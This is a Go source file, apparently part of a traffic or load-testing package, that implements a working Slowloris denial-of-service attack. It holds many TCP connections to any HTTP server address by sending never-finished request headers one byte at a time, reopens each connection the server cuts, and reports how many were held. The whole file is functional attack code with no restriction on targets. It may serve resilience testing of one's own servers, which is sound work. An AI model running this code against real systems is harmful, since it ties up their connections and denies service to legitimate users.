package traffic

import (
	"errors"
	"io"
	"net"
	"sync"
	"time"
)

// SlowReport is what a slow-client attack saw: connections open now, how
// many the target accepted in all, how many it cut (closed while the
// request was still unfinished), dials it did not answer, and the longest
// a connection was held.
type SlowReport struct {
	Event       string  `json:"event"` // "holding" (every connection opened once) or "done"
	Open        int     `json:"open"`
	Opened      int     `json:"opened"`
	Cut         int     `json:"cut"`
	Failed      int     `json:"failed"`
	LongestHeld float64 `json:"longest_held_s"`
}

// Slowloris attacks an HTTP server at addr as a slow client does: conns
// connections, each sending a request's first line and then one byte of
// a header every interval, never finishing it; a connection the server
// cuts is opened again at once, so the attack holds as many as it can
// for d. holding is called once each connection has been tried once.
func Slowloris(addr string, conns int, interval, d time.Duration, holding func(SlowReport)) SlowReport {
	var mu sync.Mutex
	rep := SlowReport{}
	deadline := time.Now().Add(d)
	var first, all sync.WaitGroup
	first.Add(conns)
	all.Add(conns)
	for range conns {
		go func() {
			defer all.Done()
			var tried sync.Once // the first connection is open, or failed
			defer tried.Do(first.Done)
			for time.Now().Before(deadline) {
				held, err := slowConn(addr, interval, deadline, func() {
					mu.Lock()
					rep.Opened++
					rep.Open++
					mu.Unlock()
					tried.Do(first.Done)
				})
				mu.Lock()
				if err != nil {
					rep.Failed++
				} else {
					rep.Open--
					if time.Now().Before(deadline) {
						rep.Cut++
					}
					rep.LongestHeld = max(rep.LongestHeld, held.Seconds())
				}
				mu.Unlock()
				if err != nil {
					tried.Do(first.Done)
					time.Sleep(interval)
				}
			}
		}()
	}
	first.Wait()
	if holding != nil {
		mu.Lock()
		r := rep
		mu.Unlock()
		r.Event = "holding"
		holding(r)
	}
	all.Wait()
	rep.Event = "done"
	return rep
}

// slowConn holds one slow request on addr until the server closes it or
// deadline passes, and says how long it was held (0: never opened, with
// the dial's error).
func slowConn(addr string, interval time.Duration, deadline time.Time, opened func()) (time.Duration, error) {
	c, err := net.DialTimeout("tcp", addr, time.Second)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	start := time.Now()
	opened()
	held := func() time.Duration { return max(time.Since(start), time.Nanosecond) }
	if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: slow\r\nX-Slow: "); err != nil {
		return held(), nil
	}
	var b [256]byte
	for time.Now().Before(deadline) {
		// The wait between bytes is a read: the server's close ends it.
		_ = c.SetReadDeadline(time.Now().Add(interval))
		if _, err := c.Read(b[:]); err != nil {
			var ne net.Error
			if !errors.As(err, &ne) || !ne.Timeout() {
				return held(), nil // closed (or answered and closed)
			}
		}
		if _, err := c.Write([]byte("x")); err != nil {
			return held(), nil
		}
	}
	return held(), nil
}
